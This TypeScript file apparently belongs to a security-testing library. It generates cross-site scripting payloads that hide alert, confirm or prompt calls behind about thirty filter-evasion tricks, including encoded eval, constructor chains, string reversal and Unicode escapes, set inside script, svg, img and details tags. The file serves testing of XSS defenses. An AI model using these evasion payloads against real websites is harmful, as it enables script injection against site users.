// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import type { Random } from '../../../random.js';
import { DATA, DOUBLE, JSON_SCRIPT, SINGLE, STRING_SINGLE } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

const codes = (text: string): string => [...text].map((letter) => letter.charCodeAt(0)).join(',');
const hex = (text: string): string => [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
const octal = (text: string): string => [...text].map((letter) => `\\${letter.charCodeAt(0).toString(8)}`).join('');
const call = (random: Random): string => `${random.pick(['alert', 'confirm', 'prompt'])}(${random.below(100)})`;

/** Scripts whose text names nothing that they call. */
export const hiddenName = xssGenerator({
  name: 'hidden-name',
  contexts: [DATA, DATA, DOUBLE, SINGLE, JSON_SCRIPT, STRING_SINGLE],
  rules: {
    start: [
      '{open}<script>{hidden}</script>',
      '{open}<svg onload="{hidden}">',
      '{open}<img src=x onerror="{hidden}">',
      '{open}<details open ontoggle="{hidden}">',
    ],
    hidden: [
      'eval(atob(`{base64}`))',
      'eval(String.fromCharCode({codes}))',
      "eval('{hex}')",
      "eval('{octal}')",
      "window['al'+'ert'](1)",
      "self[{reversed}.split('').reverse().join('')](1)",
      "[]['filter']['constructor']('{hex}')()",
      'top[/al/.source+/ert/.source]({digit})',
      "Function(atob('{base64}'))()",
      "[].constructor.constructor('{hex}')()",
      "setTimeout('{hex}')",
      "(1,eval)('{hex}')",
      'window[Object.keys(window).find(k=>/^al.rt$/.test(k))](1)',
      '\\u0061lert(1)',
      '\\u{61}lert(1)',
      'Reflect.apply(alert,null,[{digit}])',
      "globalThis[`al${'er'}t`](1)",
      'window[(+{}+[])[1]+(![]+[])[2]+(![]+[])[4]+(!![]+[])[1]+(!![]+[])[0]](1)',
      "self[atob('YWxlcnQ=')](1)",
      "this['\\x61lert'](1)",
      "eval(unescape('{percent}'))",
      "eval(decodeURIComponent('{percent}'))",
      "parseInt.constructor('{hex}')()",
      'with(window)alert(1)',
      'new Function`\\x61lert\\x281\\x29`()',
      'frames[8680439..toString(30)](1)',
      'a=8680439..toString(30);self[a](1)',
      "document.defaultView['alert'](1)",
      'valueOf.call().alert(1)',
      "''.sub.constructor('{hex}')()",
    ],
    reversed: ["'trela'", "'tpmorp'", "'mrifnoc'"],
    base64: (random) => Buffer.from(call(random)).toString('base64'),
    codes: (random) => codes(call(random)),
    hex: (random) => hex(call(random)),
    octal: (random) => octal(call(random)),
    percent: (random) => call(random).replace(/[a-z(]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  },
});
